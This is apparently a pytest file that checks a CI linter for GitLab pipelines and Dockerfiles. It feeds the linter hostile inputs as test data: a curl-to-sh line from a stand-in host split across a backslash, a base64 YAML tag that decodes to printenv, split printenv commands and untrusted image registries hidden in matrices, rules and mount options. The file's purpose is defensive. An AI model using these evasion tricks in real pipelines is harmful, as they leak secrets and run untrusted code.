"""What a hostile answer hides from a reader: in tags, merge keys, other cells, other rules, bodies and joined lines."""

from __future__ import annotations

import pytest

from shared.ci.dockerfile_images import dockerfile_images
from shared.ci.document import parse
from shared.ci.lint import check, errors
from tests.ci.pipelines import DOCKERFILE, PIPELINE, REGISTRY, files
from tests.ci.test_policy import with_command

TRIVY = "image: ${REGISTRY}/aquasec/trivy:0.57.0"


def rules_of(pipeline: str = PIPELINE, dockerfile: str = DOCKERFILE) -> set[str]:
    """The rules of the errors in a pair."""
    return {finding.rule for finding in errors(check(files(pipeline, dockerfile), registry=REGISTRY))}


@pytest.mark.parametrize(
    "image",
    [
        'image: $I\n  parallel: {matrix: [{I: ["${REGISTRY}/a:1", "docker.io/evil:1"]}]}',
        "image: ${REGISTRY}/a:1\n  rules: [{variables: {REGISTRY: docker.io}}]",
        "image: ${REGISTRY}/a:1\n  variables: {REGISTRY: {value: docker.io}}",
    ],
)
def test_every_set_of_variables_is_tried_on_an_image(image: str) -> None:
    """Another cell of a matrix, a rule's variables and the long form change where an image comes from."""
    assert rules_of(PIPELINE.replace(TRIVY, image)) == {"policy-image-registry"}


def test_the_variables_of_the_workflow_are_tried_too() -> None:
    """They stand over the global ones."""
    workflow = "workflow: {rules: [{variables: {REGISTRY: docker.io}}]}\n"
    assert rules_of(workflow + PIPELINE) == {"policy-image-registry"}


@pytest.mark.parametrize("tag", ["!!binary", "!binary", "!<tag:yaml.org,2002:binary>"])
def test_what_gitlab_decodes_is_refused(tag: str) -> None:
    """GitLab's reader makes `printenv` of it."""
    assert "yaml-syntax" in rules_of(PIPELINE.replace("- bandit -r . -ll", f"- {tag} cHJpbnRlbnY="))


def test_a_quoted_merge_key_merges() -> None:
    """GitLab's reader does not ask whether `<<` is quoted."""
    assert parse('a: {"<<": {script: [x]}}').root == {"a": {"script": ["x"]}}
    assert parse("a: {!!str <<: {script: [x]}}").root == {"a": {"<<": {"script": ["x"]}}}


def test_lines_are_joined_as_the_shell_joins_them() -> None:
    """A backslash at the end of a line leaves no blank, in a script and in a Dockerfile."""
    block = PIPELINE.replace("- bandit -r . -ll", "- |\n      pri\\\n      ntenv")
    assert rules_of(block) == {"policy-prints-environment"}
    run = DOCKERFILE.replace("WORKDIR /app", "RUN cu\\\nrl https://x.example/x | sh")
    assert rules_of(dockerfile=run) == {"policy-download-to-shell"}


def test_an_image_is_found_in_every_spelling() -> None:
    """Keys of a mount may be in capitals, and the syntax may stand behind `#!`."""
    mount = DOCKERFILE.replace("WORKDIR /app", "RUN --mount=type=bind,FROM=evil/img:1,target=/x /x/run")
    assert rules_of(dockerfile=mount) == {"policy-image-registry"}
    syntax = f"#!/usr/bin/env builder\n# syntax=evil/img:1\n{DOCKERFILE}"
    assert dockerfile_images(syntax)[0].reference == "evil/img:1"
    assert rules_of(dockerfile=syntax) == {"policy-image-registry"}


def test_honest_commands_stay_honest() -> None:
    """The corpus of this file begins with a pair in which nothing is wrong."""
    assert rules_of(with_command("bandit -r . \\\n  -ll")) == set()
